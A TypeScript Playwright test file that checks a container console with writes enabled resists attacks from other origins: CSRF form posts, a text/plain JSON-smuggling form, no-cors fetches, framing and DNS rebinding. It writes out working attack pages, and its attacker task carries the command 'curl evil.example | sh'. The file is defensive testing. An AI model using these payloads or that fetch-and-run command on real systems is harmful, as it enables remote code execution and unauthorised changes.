import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { apiClient } from '../../client/client';
import { startConsoleServer } from '../../console/standalone';
import { registerTaskDefinition, webService } from '../support/api';
import { hasChromium, launchChromium } from '../support/browser';
import { useTestStack } from '../support/stack';
import { eventually } from '../support/waiting';

/**
 * Pages of another origin, in headless Chromium, against both consoles with writes allowed:
 * an attacker's site on another port of the same host (same-site, so a SameSite cookie alone would not
 * stop it), and a DNS-rebinding page whose own name resolves to 127.0.0.1.
 */
let proxy: Awaited<ReturnType<typeof startConsoleServer>>;
let attacker: Server;
let attackerUrl: string;
let browser: BrowserContext;
const consoleErrors: string[] = [];

const SERVICE = '/clusters/default/services/web';
const REBIND_HOST = 'rebind.test';
/** A one-off task of the attacker's choosing, as JSON. */
const TASK = {
  taskDefinition: 'web',
  networkConfiguration: webService().networkConfiguration,
  overrides: { containerOverrides: [{ name: 'app', command: ['sh', '-c', 'curl evil.example | sh'] }] },
};

const oneOffTasks = async () =>
  (await local.api.get('/clusters/default/tasks')).body.items.filter(
    (task: { serviceName?: string }) => task.serviceName === undefined,
  ).length;
const serviceRevision = async () => (await local.api.get(SERVICE)).body.taskDefinition as string;

const completed = async (revision: string) =>
  eventually(`${revision} COMPLETED`, async () => {
    const { body } = await local.api.get(SERVICE);
    const primary = body.deployments.find((d: { status: string }) => d.status === 'PRIMARY');
    return body.taskDefinition === revision && primary?.rolloutState === 'COMPLETED' ? true : undefined;
  });

const escapeAttr = (text: string) =>
  text.replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/'/g, '&#39;');

/**
 * The attacker's pages. A text/plain form whose one field's name is JSON and value closes it: the body is
 * `{...,"pad":"="}`, valid JSON, sent with no preflight. The probe posts the same with fetch (no-cors), tries
 * to read the console and its API with CORS, and frames the console; results land in #result.
 */
const attackerPage = (kind: string, target: string): string => {
  const json = JSON.stringify({ ...TASK, clientToken: '' }).slice(0, -2);
  switch (kind) {
    case 'form-rollback':
      return `<form method="post" action="${target}/console${SERVICE}/rollback"><input name="taskDefinition" value="web:1"></form>
<script>document.forms[0].submit()</script>`;
    case 'form-task':
      return `<form method="post" enctype="text/plain" action="${target}/clusters/default/tasks"><input name='${escapeAttr(json)}' value='"}'></form>
<script>document.forms[0].submit()</script>`;
    default:
      return `<iframe id="framed" src="${target}/console/"></iframe><pre id="result"></pre>
<script>
(async () => {
  const result = {};
  await fetch(${JSON.stringify(`${target}/clusters/default/tasks`)}, { method: 'POST', mode: 'no-cors',
    headers: { 'content-type': 'text/plain' }, body: ${JSON.stringify(JSON.stringify(TASK))} }).catch(() => {});
  for (const path of ['/console${SERVICE}', '${SERVICE}']) {
    try { const r = await fetch(${JSON.stringify(target)} + path); result[path] = 'read ' + r.status + ' ' + (await r.text()).slice(0, 200); }
    catch (e) { result[path] = 'blocked'; }
  }
  document.getElementById('result').textContent = JSON.stringify(result);
  document.getElementById('result').dataset.done = '1';
})();
</script>`;
  }
};

/** A page served as if from rebind.test, whose name now resolves to the console: same-origin to it. */
const rebindingPage = `<pre id="result"></pre>
<script>
(async () => {
  const result = {};
  for (const path of ['/console${SERVICE}', '${SERVICE}']) {
    try { const r = await fetch(path); result[path] = r.status + ' ' + (await r.text()).slice(0, 5000); }
    catch (e) { result[path] = 'error ' + e; }
  }
  try {
    const r = await fetch('/console${SERVICE}/rollback', { method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: 'taskDefinition=web:1' });
    result.rollback = r.status;
  } catch (e) { result.rollback = 'error ' + e; }
  document.getElementById('result').textContent = JSON.stringify(result);
  document.getElementById('result').dataset.done = '1';
})();
</script>`;

const resultOf = async (page: Page): Promise<Record<string, string | number>> => {
  await page.locator('#result[data-done]').waitFor({ timeout: 15_000 });
  return JSON.parse((await page.locator('#result').textContent()) ?? '{}');
};

const local = useTestStack({
  timing: 'realistic',
  reconcileIntervalMs: 1000,
  console: { allowWrites: true },
});

beforeAll(async () => {
  for (const image of ['nginx:1.27', 'nginx:1.28']) await registerTaskDefinition(local.api, 'web', image);
  const created = await local.api.post('/clusters/default/services', {
    ...webService('web', 'web:1', 1),
    deploymentConfiguration: { minReadySeconds: 1 },
  });
  expect(created.status, JSON.stringify(created.body)).toBe(201);
  await completed('web:1');
  expect((await local.api.patch(SERVICE, { taskDefinition: 'web:2' })).status).toBe(200);
  await completed('web:2');
  proxy = await startConsoleServer({
    api: apiClient(local.stack.apiUrl),
    allowWrites: true,
    clusters: ['default'],
    port: 0,
    host: '127.0.0.1',
  });
  attacker = createServer((request, response) => {
    const url = new URL(request.url ?? '/', 'http://attacker');
    response
      .writeHead(200, { 'content-type': 'text/html' })
      .end(attackerPage(url.pathname.slice(1), url.searchParams.get('target') ?? ''));
  });
  await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
  attackerUrl = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
  browser = await launchChromium([
    `--host-resolver-rules=MAP ${REBIND_HOST} 127.0.0.1`,
    // Chromium's own Private/Local Network Access checks would stop the rebinding page before the console
    // sees it; other browsers have none, so they are off here to show the console's own defence.
    '--disable-features=BlockInsecurePrivateNetworkRequests,PrivateNetworkAccessSendPreflights,PrivateNetworkAccessRespectPreflightResults,LocalNetworkAccessChecks',
  ]);
}, 120_000);

afterAll(async () => {
  await browser?.close();
  await new Promise((resolve) => attacker?.close(resolve));
  await proxy?.close();
});

describe.skipIf(!hasChromium)('a page of another origin, in headless Chromium, against the console', () => {
  describe.each([
    ['npm start, /console/ on the API', () => Number(new URL(local.stack.apiUrl).port)],
    ['tugboat console --allow-writes', () => proxy.port],
  ])('%s', (_, port) => {
    const target = () => `http://127.0.0.1:${port()}`;

    it('cannot roll back a service with a cross-site form post', async () => {
      const before = await serviceRevision();
      const page = await browser.newPage();
      const answer = page.waitForResponse((response) => response.url().endsWith('/rollback'));
      await page.goto(`${attackerUrl}/form-rollback?target=${encodeURIComponent(target())}`);
      expect((await answer).status()).toBe(403);
      await page.close();
      expect(await serviceRevision()).toBe(before);
    });

    it('cannot run a task with a text/plain form or a no-cors fetch, nor read or frame the console', async () => {
      const before = await oneOffTasks();
      const formPage = await browser.newPage();
      const formAnswer = formPage.waitForResponse((response) =>
        response.url().endsWith('/clusters/default/tasks'),
      );
      await formPage.goto(`${attackerUrl}/form-task?target=${encodeURIComponent(target())}`);
      expect((await formAnswer).status()).toBe(403);
      await formPage.close();

      const page = await browser.newPage();
      await page.goto(`${attackerUrl}/probe?target=${encodeURIComponent(target())}`);
      expect(await resultOf(page)).toEqual({ [`/console${SERVICE}`]: 'blocked', [SERVICE]: 'blocked' });
      // The frame is refused (frame-ancestors 'none', X-Frame-Options DENY): Chromium shows its error page.
      await expect
        .poll(() =>
          page
            .frames()
            .find((frame) => frame !== page.mainFrame())
            ?.url(),
        )
        .toBe('chrome-error://chromewebdata/');
      await page.close();
      // Give a task that slipped through the time to be recorded.
      await new Promise((resolve) => setTimeout(resolve, 500));
      expect(await oneOffTasks()).toBe(before);
    });

    it('reads and changes nothing from a DNS-rebinding page, whose requests are same-origin', async () => {
      const before = await serviceRevision();
      const page = await browser.newPage();
      const rebound = `http://${REBIND_HOST}:${port()}`;
      await page.route(`${rebound}/attack`, (route) =>
        route.fulfill({ status: 200, contentType: 'text/html', body: rebindingPage }),
      );
      await page.goto(`${rebound}/attack`);
      const result = await resultOf(page);
      for (const path of [`/console${SERVICE}`, SERVICE]) {
        expect(String(result[path])).toMatch(/^403 .*is not an address of this console/s);
        expect(String(result[path])).not.toContain('nginx');
      }
      expect(result.rollback).toBe(403);
      await page.close();
      expect(await serviceRevision()).toBe(before);
    });

    it('still rolls back from its own page, with the confirmation, under its CSP', async () => {
      const before = await serviceRevision();
      const page = await browser.newPage();
      page.on('console', (message) => {
        if (message.type() === 'error') consoleErrors.push(`${port()}: ${message.text()}`);
      });
      page.on('dialog', (dialog) => void dialog.accept());
      expect((await page.goto(`${target()}/console${SERVICE}`))?.status()).toBe(200);
      const button = page.locator('#history button').first();
      const to = (await button.innerText()).replace('Roll back to ', '');
      expect(to).not.toBe(before);
      await button.click();
      await eventually('the rollback', async () => ((await serviceRevision()) === to ? true : undefined));
      await page.close();
      await completed(to);
    });
  });

  it('logs no errors on the console’s own pages (nothing its CSP refuses)', () => {
    expect(consoleErrors).toEqual([]);
  });
});
